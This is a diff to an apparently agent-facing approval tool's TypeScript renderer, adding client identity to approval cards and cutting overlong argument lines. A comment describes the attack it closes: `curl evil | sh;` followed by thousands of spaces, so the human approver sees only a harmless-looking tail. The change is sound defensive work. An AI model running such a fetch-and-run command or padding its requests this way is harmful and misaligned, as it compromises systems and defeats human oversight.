@@ -51,31 +51,54 @@ export function describeWho(p: Pick<PendingApproval['principal'], 'user' | 'acto
  * Whom and what a grant covers, in words an approver cannot misread: `alice via agent-7 (this
  * agent only) · acme/transfer_funds · any arguments`.
  */
-export function describeGrantScope(g: Pick<Grant, 'user' | 'actor' | 'actorIssuer' | 'priorActors' | 'priorActorIssuers' | 'scope' | 'upstream' | 'tool' | 'argsDigest'>): string {
+export function describeGrantScope(g: Pick<Grant, 'user' | 'actor' | 'actorIssuer' | 'priorActors' | 'priorActorIssuers' | 'clientId' | 'scope' | 'upstream' | 'tool' | 'argsDigest'>): string {
+  // Without `act`, an agent app holding the user's own token is its client: say so, it is not "alice directly".
   const who =
-    g.scope === 'user' ? `${terminalSafe(g.user)} through any agent` : g.actor ? `${describeWho(g)} (this agent only)` : `${terminalSafe(g.user)} directly (no agent)`;
+    g.scope === 'user'
+      ? `${terminalSafe(g.user)} through any agent`
+      : g.actor
+        ? `${describeWho(g)} (this agent only)`
+        : g.clientId !== undefined
+          ? `${terminalSafe(g.user)} through client ${terminalSafe(g.clientId)} (this client only)`
+          : `${terminalSafe(g.user)} directly (no agent)`;
   const args = g.argsDigest ? 'same arguments only' : 'any arguments';
   return `${who} · ${terminalSafe(g.upstream)}/${terminalSafe(g.tool)} · ${args}`;
 }
 
+/**
+ * Longest argument line a cut-short card prints (escaped text, indentation included). One JSON
+ * line holds a whole string value, however long: 5,000 spaces after `curl evil | sh;` wrapped into
+ * screens of blank rows that scrolled the dangerous start (and who / what) off the terminal, so the
+ * approver saw only the harmless-looking tail next to the menu.
+ */
+export const MAX_ARG_LINE_CHARS = 160;
+
 function indentJson(value: unknown, maxLines: number, id: string): string[] {
   const lines = (JSON.stringify(value, null, 2) ?? 'undefined').split('\n');
-  const shown = lines.slice(0, maxLines).map((l) => terminalSafe(l));
+  const show = `\`warden approvals show ${terminalSafe(id)}\` prints them all`;
+  const cut = Number.isFinite(maxLines);
+  const shown = lines.slice(0, maxLines).map((l) => {
+    const safe = terminalSafe(l);
+    if (!cut || safe.length <= MAX_ARG_LINE_CHARS) return safe;
+    return `${safe.slice(0, MAX_ARG_LINE_CHARS)}… (${safe.length - MAX_ARG_LINE_CHARS} more characters: ${show})`;
+  });
   // The agent chooses the order of its arguments: say where the rest can be read in full.
-  if (lines.length > maxLines) shown.push(`… (${lines.length - maxLines} more lines: \`warden approvals show ${terminalSafe(id)}\` prints them all)`);
+  if (lines.length > maxLines) shown.push(`… (${lines.length - maxLines} more lines: ${show})`);
   return shown;
 }
 
 /**
  * The card shown to a human approver: who, what, why. `maxArgLines` bounds the arguments shown
- * (the interactive console); `warden approvals show` passes Infinity: it prints the request in full.
+ * (the interactive console), and then each argument line too (MAX_ARG_LINE_CHARS); `warden
+ * approvals show` passes Infinity: it prints the request in full.
  */
 export function renderApprovalCard(a: PendingApproval, position: string, maxArgLines = 20): string[] {
   const pad = '        ';
   const reasons = a.reasons.map((r) => `${pad}${terminalSafe(r.code)}  ${terminalSafe(r.detail)}`);
   return [
     `━━ approval request ${a.id}${position ? ` ${position}` : ''} ━━`,
-    `  who   ${describeWho(a.principal)}${a.principal.issuer ? ` (${terminalSafe(a.principal.issuer)})` : ''}`,
+    // The client too: an agent app holding the user's own token (no `act`) is known by nothing else.
+    `  who   ${describeWho(a.principal)}${a.principal.issuer ? ` (${terminalSafe(a.principal.issuer)})` : ''}${a.principal.clientId !== undefined ? ` · client ${terminalSafe(a.principal.clientId)}` : ''}`,
     `  what  ${terminalSafe(a.upstream)} / ${terminalSafe(a.tool)}`,
     ...indentJson(a.arguments, maxArgLines, a.id).map((l) => `${pad}${l}`),
     `  why   score ${a.score}${a.rules.length > 0 ? ` · rules ${terminalSafe(a.rules.join(', '))}` : ''}`,
